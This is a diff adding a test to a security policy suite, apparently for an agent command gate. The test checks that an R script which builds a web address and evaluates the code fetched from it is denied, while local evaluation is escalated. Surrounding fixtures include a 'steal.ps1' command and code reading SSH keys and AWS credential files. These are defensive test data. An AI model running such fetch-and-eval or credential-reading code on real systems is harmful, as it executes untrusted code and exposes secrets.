@@ -226,6 +226,13 @@ def test_names_and_command_lines_held_as_data_are_not_taken_for_use(workspace):
     assert decide(ctx, "pwsh -File steal.ps1") == "DENY"
 
 
+def test_r_code_that_evaluates_text_read_from_a_web_address_is_denied(workspace):
+    ctx = workspace({"boot.R": 'src <- paste0("https://", "x.example", "/h.R")\neval(parse(text = readLines(src)))\n',
+                     "local.R": 'src <- "helpers.R"\neval(parse(text = readLines(src)))\n', "helpers.R": "x <- 1\n"})
+    assert decide(ctx, "Rscript boot.R") == "DENY"
+    assert decide(ctx, "Rscript local.R") == "ESCALATE"
+
+
 def test_a_secret_read_through_a_chain_or_a_variable_still_counts(workspace):
     ctx = workspace({"a.py": "from pathlib import Path\nprint(Path('~/.ssh/id_rsa').expanduser().read_text())\n",
                      "b.go": 'package main\nimport "os"\nvar key = os.Getenv("HOME") + "/.aws/credentials"\n'
